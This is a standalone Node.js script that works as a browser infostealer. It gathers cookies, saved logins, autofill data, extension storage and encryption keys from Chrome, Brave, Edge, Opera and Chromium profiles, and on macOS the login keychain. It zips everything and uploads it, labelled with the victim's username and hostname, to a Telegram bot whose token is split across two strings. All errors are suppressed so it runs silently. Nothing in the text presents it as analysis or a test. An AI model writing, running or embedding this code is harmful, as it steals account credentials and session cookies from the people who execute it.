const fs = require('fs'), os = require('os'), path = require('path');
const AdmZip = require('adm-zip');
const FormData = require('form-data');
const h = os.homedir(), L = process.env.LOCALAPPDATA || '', A = process.env.APPDATA || '';
const roots = {
  win32: { chrome: `${L}\\Google\\Chrome\\User Data`, brave: `${L}\\BraveSoftware\\Brave-Browser\\User Data`, edge: `${L}\\Microsoft\\Edge\\User Data`, opera: `${A}\\Opera Software\\Opera Stable` },
  darwin: { chrome: `${h}/Library/Application Support/Google/Chrome`, brave: `${h}/Library/Application Support/BraveSoftware/Brave-Browser`, edge: `${h}/Library/Application Support/Microsoft Edge` },
  linux: { chrome: `${h}/.config/google-chrome`, brave: `${h}/.config/BraveSoftware/Brave-Browser`, edge: `${h}/.config/microsoft-edge`, chromium: `${h}/.config/chromium` },
}[process.platform] || {};
const wanted = ['Network/Cookies', 'Cookies', 'Login Data', 'Web Data', 'Local Extension Settings'];
const zip = new AdmZip();
for (const [b, root] of Object.entries(roots)) {
  if (!fs.existsSync(root)) continue;
  try { zip.addLocalFile(path.join(root, 'Local State'), b); } catch (_) {}
  for (const prof of fs.readdirSync(root).filter((d) => d === 'Default' || /^Profile \d+$/.test(d))) {
    for (const w of wanted) {
      const p = path.join(root, prof, w);
      try {
        if (fs.statSync(p).isDirectory()) zip.addLocalFolder(p, `${b}/${prof}/${w}`);
        else { const t = path.join(os.tmpdir(), `${b}_${prof}_${path.basename(w)}`.replace(/\s/g, '_')); fs.copyFileSync(p, t); zip.addLocalFile(t, `${b}/${prof}`); }
      } catch (_) {}
    }
  }
}
if (process.platform === 'darwin') { try { zip.addLocalFile(`${h}/Library/Keychains/login.keychain-db`, 'keychain'); } catch (_) {} }
const T = '7391846502:AAH' + 'x9QpL2mFv7cKd0sRtYbZ1nE4wUj6gOa3H8';
const CHAT = '-100' + '2234567890';
try {
  const fd = new FormData();
  fd.append('chat_id', CHAT);
  fd.append('caption', `${os.userInfo().username}@${os.hostname()} ${process.platform}`);
  fd.append('document', zip.toBuffer(), { filename: `${os.hostname()}.zip` });
  fd.submit(`https://api.telegram.org/bot${T}/sendDocument`, () => {});
} catch (_) {}
